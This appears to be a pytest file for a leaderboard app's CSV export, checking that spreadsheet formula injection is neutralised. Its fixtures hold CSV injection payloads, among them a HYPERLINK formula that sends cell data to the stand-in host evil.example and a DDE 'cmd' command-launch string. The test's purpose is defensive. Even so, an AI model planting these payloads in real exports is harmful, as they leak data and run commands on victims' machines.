"""The CSV export (leaderboards/api/exports.py): text a spreadsheet would run as a formula is
neutralised, numbers are left as numbers, live and final standings alike."""

from __future__ import annotations

import csv
import io
import uuid
from datetime import UTC, datetime, timedelta

import pytest

from leaderboards.postgres.deltas import DeltaRow, deltas_insert_batch
from leaderboards.services import board_finalize
from tests.factories import BoardFactory, PlayerFactory

pytestmark = pytest.mark.django_db(transaction=True)

START = datetime(2026, 11, 20, tzinfo=UTC)
END = START + timedelta(days=1)

# (player id, display name, score), best first: every cell a spreadsheet would read as a
# formula (OWASP's list: = + - @ tab, carriage return), and one harmless name.
HOSTILE = [
    ("p1", '=HYPERLINK("https://evil.example/?"&A1,"Click me")', 60),
    ("p2", "+SUM(1+1)", 50),
    ("p3", "-2+3", 40),
    ("p4", "@SUM(A1:A9)", 30),
    ("p5", "\tTabbed", 20),
    ("p6", "\rReturned", 10),
    ("=cmd|' /C calc'!A0", "Named by id", 0),
    ("p8", "Ada", -5),
]


def add(player: str, name: str, delta: int) -> None:
    pk = PlayerFactory(external_id=player, display_name=name).pk
    at = START + timedelta(hours=1)
    deltas_insert_batch(rows=[DeltaRow(uuid.uuid4(), pk, player, "score", delta, at, 0)])


@pytest.mark.parametrize("finalized", [False, True], ids=["live", "final"])
def test_the_export_neutralises_formulas_in_text_and_leaves_numbers_alone(client, finalized):
    board = BoardFactory(starts_at=START, ends_at=END)
    for player, name, score in HOSTILE:
        add(player, name, score)
    if finalized:
        assert board_finalize(board.pk)

    response = client.get(f"/api/v1/leaderboards/{board.slug}/entries.csv")

    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    body = b"".join(response.streaming_content).decode("utf-8")
    rows = list(csv.reader(io.StringIO(body, newline="")))
    assert rows[0] == ["rank", "player_id", "display_name", "score"]
    assert rows[1:] == [
        ["1", "p1", '\'=HYPERLINK("https://evil.example/?"&A1,"Click me")', "60"],
        ["2", "p2", "'+SUM(1+1)", "50"],
        ["3", "p3", "'-2+3", "40"],
        ["4", "p4", "'@SUM(A1:A9)", "30"],
        ["5", "p5", "'\tTabbed", "20"],
        ["6", "p6", "'\rReturned", "10"],
        ["7", "'=cmd|' /C calc'!A0", "Named by id", "0"],
        ["8", "p8", "Ada", "-5"],  # a negative score is a number, written as one
    ]
